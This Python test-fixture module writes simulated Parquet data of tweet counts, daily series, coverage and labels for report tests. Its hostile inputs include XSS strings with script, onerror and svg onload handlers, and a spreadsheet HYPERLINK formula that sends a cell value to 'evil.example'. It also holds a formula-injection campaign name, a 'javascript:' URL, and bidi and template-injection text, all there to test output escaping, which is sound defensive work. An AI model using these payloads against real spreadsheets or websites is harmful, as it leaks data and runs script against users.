"""Folders of Parquet files with counts and Tweets of the simulator's world, for tests of reports.

The rows are those that a pull writes, without a pull, because a report needs months of them.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import TYPE_CHECKING, Any

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq

from airflow_provider_engagement.api.tweet_id import FIRST_SNOWFLAKE_MS, TIMESTAMP_SHIFT
from airflow_provider_engagement.collections.schema import attributes_schema, labels_schema
from airflow_provider_engagement.rows.schema import COVERAGE, LONG, arrow_schema
from airflow_provider_engagement.simulator.world import World, created, milliseconds

if TYPE_CHECKING:
    from collections.abc import Sequence
    from pathlib import Path

__all__ = ["HOSTILE_TEXTS", "NOW", "MadeCounts", "make_counts", "make_totals"]

NOW = datetime(2026, 6, 1, tzinfo=UTC)
DAY = timedelta(days=1)
TOTALS = (
    *("impressions", "engagements", "favorites", "retweets", "replies", "quote_tweets"),
    "video_views",
)
SERIES = ("impressions", "engagements", "favorites", "retweets", "replies", "url_clicks")
TEXTS = (
    "Our autumn sale starts today: up to half off on boots, coats and bags",
    "New in the shop: boots for rainy days",
    "Thank you for ten years together",
    "Behind the scenes of our workshop: how a bag is made, from the first cut to the last stitch",
    "Which colour should come back? Tell us, and the winner returns in spring",
    "We are hiring in three cities",
)
HOSTILE_TEXTS = (
    "<script>alert('x')</script><img src=x onerror=alert(1)>",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "\u202e\u0645\u0631\u062d\u0628\u0627 \u2067\u0646\u0635 from right to left",
    "🎉👩‍👩‍👧‍👦🏳️‍🌈 {{ 7 * 7 }} {% raw %} &lt;b&gt; \x00\x08 \"quoted\" 'single'",
    "long " * 800,
    "</style></title><svg/onload=alert(1)>\r\nsecond line, -1+1",
)
CAMPAIGNS = ("spring", "summer", "autumn", "=1+1|'<b>'")


@dataclass(frozen=True, slots=True)
class MadeCounts:
    """What was written, and what it was made from.

    :param table: the URI of the folder of counts.
    :param tweets_table: the URI of the folder of Tweets.
    :param world: the world.
    :param ids: the Tweets with counts.
    :param texts: their texts.
    :param campaigns: their campaigns.
    """

    table: str
    tweets_table: str
    world: World
    ids: list[str]
    texts: list[str]
    campaigns: list[str]


def make_counts(
    folder: Path, *, tweets: int = 160, days: int = 60, hostile: bool = True
) -> MadeCounts:
    """Write counts to date, counts by day, coverage, Tweets and labels.

    :param folder: where to.
    :param tweets: how many Tweets; one in twenty has been deleted.
    :param days: over how many days before ``NOW`` they were posted.
    :param hostile: whether texts and the name of a campaign are hostile.
    """
    world = World(7, ("acme",), NOW)
    every = world.tweets("acme", tweets, since=NOW - days * DAY, until=NOW - DAY)
    deleted, ids = every[::20], [each for place, each in enumerate(every) if place % 20]
    names = CAMPAIGNS if hostile else (*CAMPAIGNS[:3], "winter")
    campaigns = [names[number % 4] for number in range(len(ids))]
    texts = [
        *(HOSTILE_TEXTS if hostile else ()),
        *(TEXTS[number % 6] for number in range(len(ids))),
    ][: len(ids)]
    by_size = np.argsort(-world.counts(ids, ("engagements",), _moments([NOW]))[:, 0, 0])
    # The hostile texts are those of the top Tweets.
    ordered = [""] * len(ids)
    for place, text in zip(by_size, texts, strict=True):
        ordered[place] = text
    counts, known = _make_folders(folder)
    pq.write_table(_totals(world, ids), counts / "totals.parquet")
    pq.write_table(_days(world, ids, days), counts / "days.parquet")
    pq.write_table(_coverage(ids, deleted), counts / "totals.coverage.parquet")
    _write_tweets(known, ids, ordered, campaigns)
    return MadeCounts(
        f"file://{counts}/", f"file://{known}/tweets.parquet", world, ids, ordered, campaigns
    )


def make_totals(folder: Path, tweets: int) -> MadeCounts:
    """Write counts to date and Tweets, for large numbers of them.

    :param folder: where to.
    :param tweets: how many Tweets, posted evenly over two months.
    """
    world = World(7, ("acme",), NOW)
    first, last = (moment.tolist()[0] for moment in (_moments([NOW - 60 * DAY]), _moments([NOW])))
    posted = np.linspace(first, last, tweets, endpoint=False).astype(np.int64) - FIRST_SNOWFLAKE_MS
    ids = [str(each) for each in ((posted << TIMESTAMP_SHIFT) | np.arange(tweets) % 4096).tolist()]
    campaigns = [("spring", "summer", "autumn", "winter")[number % 4] for number in range(tweets)]
    texts = [TEXTS[number % 6] for number in range(tweets)]
    counts, known = _make_folders(folder)
    pq.write_table(_totals(world, ids), counts / "totals.parquet")
    _write_tweets(known, ids, texts, campaigns)
    return MadeCounts(
        f"file://{counts}/", f"file://{known}/tweets.parquet", world, ids, texts, campaigns
    )


def _make_folders(folder: Path) -> tuple[Path, Path]:
    """Make the folders for counts and for Tweets, and return them."""
    counts, known = folder / "counts", folder / "tweets"
    for each in (counts, known / "labels", known / "plain"):
        each.mkdir(parents=True, exist_ok=True)
    return counts, known


def _moments(moments: Sequence[datetime]) -> Any:
    return np.array([milliseconds(moment) for moment in moments], dtype=np.int64)


def _rows(ids: Sequence[str], columns: dict[str, Any], number: int) -> pa.Table:
    """Return long rows; a column that is not given is the same in every row."""
    constant = {
        "account": "acme",
        "access": "owner",
        "endpoint": "totals",
        "grouping": "tweet.id/engagement.type",
        "complete": True,
        "collected_at": NOW,
    }
    posted = created(np.array(ids, dtype=np.uint64))
    columns = {"tweet_created_at": np.repeat(posted, number // len(ids)) * 1000, **columns}
    arrays = []
    schema = arrow_schema(LONG)
    for field in schema:
        if field.name in columns:
            made = pa.array(columns[field.name])
            arrays.append(
                made.cast(pa.int64()).cast(field.type)
                if pa.types.is_timestamp(field.type)
                else made.cast(field.type)
            )
        else:
            value = constant.get(field.name)
            arrays.append(pa.repeat(pa.scalar(value, field.type), number))
    return pa.Table.from_arrays(arrays, schema=schema)


def _totals(world: World, ids: Sequence[str]) -> pa.Table:
    counts = world.counts(ids, TOTALS, _moments([NOW]))[:, :, 0]
    number = counts.size
    return _rows(
        ids,
        {
            "tweet_id": pa.array(ids).take(pa.array(np.repeat(np.arange(len(ids)), len(TOTALS)))),
            "engagement_type": pa.array(TOTALS).take(
                pa.array(np.tile(np.arange(len(TOTALS)), len(ids)))
            ),
            "value": counts.reshape(-1),
            "granularity": pa.repeat("lifetime", number),
            "date": pa.repeat(NOW.date(), number),
            "snapshot_at": np.full(number, milliseconds(NOW) * 1000),
        },
        number,
    )


def _days(world: World, ids: Sequence[str], days: int) -> pa.Table:
    edges = [NOW - (days - number) * DAY for number in range(days + 1)]
    counts = world.series(ids, SERIES, _moments(edges))
    tweets, types, periods = (each.reshape(-1) for each in np.indices(counts.shape))
    posted = created(np.array(ids, dtype=np.uint64))[tweets]
    starts = _moments(edges)
    after = starts[periods + 1] > posted
    tweets, types, periods = tweets[after], types[after], periods[after]
    return _rows(
        ids,
        {
            "tweet_created_at": posted[after] * 1000,
            "endpoint": pa.repeat("historical", len(tweets)),
            "tweet_id": pa.array(ids).take(pa.array(tweets)),
            "engagement_type": pa.array(SERIES).take(pa.array(types)),
            "value": counts.reshape(-1)[after],
            "granularity": pa.repeat("day", len(tweets)),
            "date": (starts[periods] // 86_400_000).astype("datetime64[D]"),
            "period_start": starts[periods] * 1000,
            "period_end": starts[periods + 1] * 1000,
        },
        len(tweets),
    )


def _coverage(ids: Sequence[str], deleted: Sequence[str]) -> pa.Table:
    shared = {
        "account": "acme",
        "endpoint": "totals",
        "date": NOW.date(),
        "snapshot_at": NOW,
        "collected_at": NOW,
    }
    answered = [
        {**shared, "tweet_id": each, "status": "answered", "access": "owner"} for each in ids
    ]
    reason = "deleted, protected or suspended"
    missing = [
        {**shared, "tweet_id": each, "status": "unavailable", "reason": reason} for each in deleted
    ]
    return pa.Table.from_pylist([*answered, *missing], schema=arrow_schema(COVERAGE))


def _write_tweets(
    folder: Path, ids: Sequence[str], texts: Sequence[str], campaigns: Sequence[str]
) -> None:
    kinds = ("none", "photo", "video")
    posted = created(np.array(ids, dtype=np.uint64))
    tweets = {
        "tweet_id": ids,
        # A hostile address stands among them.
        "url": [
            "javascript:alert(1)" if place % 7 == 0 else f"https://x.com/acme/status/{each}"
            for place, each in enumerate(ids)
        ],
        "author_username": ["acme"] * len(ids),
        "text": texts,
        "tweet_type": ["reply" if place % 5 == 0 else "post" for place in range(len(ids))],
        "media_type": [kinds[place % 3] for place in range(len(ids))],
        "has_link": [place % 2 == 0 for place in range(len(ids))],
        "created_at": posted,
    }
    arrays = {
        field.name: pa.array(tweets[field.name]).cast(field.type)
        if field.name in tweets
        else pa.nulls(len(ids), field.type)
        for field in attributes_schema()
    }
    pq.write_table(pa.table({**arrays, "campaign": campaigns}), folder / "tweets.parquet")
    pq.write_table(pa.table(arrays), folder / "plain" / "tweets.parquet")
    labels = {"tweet_id": ids, "label": ["campaign"] * len(ids), "value": campaigns}
    pq.write_table(pa.table(labels, schema=labels_schema()), folder / "labels" / "labels.parquet")
